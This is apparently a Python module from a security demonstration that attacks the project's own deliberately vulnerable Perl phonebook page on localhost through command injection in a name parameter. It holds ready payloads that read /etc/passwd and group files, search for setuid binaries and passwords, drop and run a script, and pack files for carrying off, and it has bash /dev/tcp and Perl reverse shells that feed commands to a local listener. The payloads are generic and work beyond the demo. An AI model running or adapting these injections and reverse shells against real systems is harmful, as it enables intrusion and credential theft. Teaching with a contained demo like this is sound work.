# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks on the demonstration's own web site: `python -m demo.attacks --port N --attack NAME`.

Every one goes through the hole in `site/phonebook.pl`: a name that holds a
command.  They reach nothing but the server on 127.0.0.1 and a listener that
this module opens there itself, and they change nothing outside its folder.
"""

from __future__ import annotations

import argparse
import http.client
import socket
import sys
from urllib.parse import quote

COMMANDS: dict[str, str] = {
    "who-am-i": "x; id #",
    "accounts": "x; cat /etc/passwd /etc/group #",
    "which-system": "x; uname -a; id; hostname #",
    "look-around": "x; ls -la / /etc /home #",
    "drop-a-script": "x; printf '#!/bin/sh\\nid\\n' > visitors/door.sh;"
    " chmod 755 visitors/door.sh; visitors/door.sh #",
    "setuid-hunt": "x; find /usr/bin -perm -4000 #",
    "look-for-secrets": "x; grep -rils passw /etc #",
    "pack-and-carry-off": "x; tar cf - /etc/passwd /etc/group | gzip | od -An -tx1 #",
}
"""Commands that answer in the page itself."""

REVERSE_SHELLS: dict[str, str] = {
    "reverse-shell-bash": "x; bash -c 'exec sh -i <>/dev/tcp/127.0.0.1/{port} >&0 2>&1' #",
    "reverse-shell-perl": "x; perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);"
    "connect(S,sockaddr_in({port},inet_aton(q(127.0.0.1))));"
    'open(STDIN,"<&S");open(STDOUT,">&S");open(STDERR,">&S");exec q(/bin/sh);\' #',
}
"""Commands that connect back to the attacker and take a shell's commands there."""

ATTACKS = [*COMMANDS, *REVERSE_SHELLS]


def attack(port: int, name: str) -> str:
    """Attack the site on 127.0.0.1 and return what the attacker got to see."""
    if name in COMMANDS:
        return _request(port, COMMANDS[name])
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(20)
        command = REVERSE_SHELLS[name].format(port=listener.getsockname()[1])
        web = _send(port, command)
        try:
            shell, _ = listener.accept()
            with shell:
                shell.settimeout(20)
                shell.sendall(b"id; uname -a; head -n 3 /etc/passwd; ls /; exit\n")
                seen = b""
                while part := shell.recv(65536):
                    seen += part
            web.getresponse().read()
        finally:
            web.close()
    return seen.decode(errors="replace")


def _send(port: int, name: str) -> http.client.HTTPConnection:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    connection.request("GET", f"/phonebook.pl?name={quote(name, safe='')}")
    return connection


def _request(port: int, name: str) -> str:
    connection = _send(port, name)
    try:
        return connection.getresponse().read().decode(errors="replace")
    finally:
        connection.close()


def main() -> int:
    """Attack as the command line says, and print the booty."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else "")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--attack", choices=ATTACKS, default="accounts")
    args = parser.parse_args()
    print(attack(args.port, args.attack))
    return 0


if __name__ == "__main__":
    sys.exit(main())
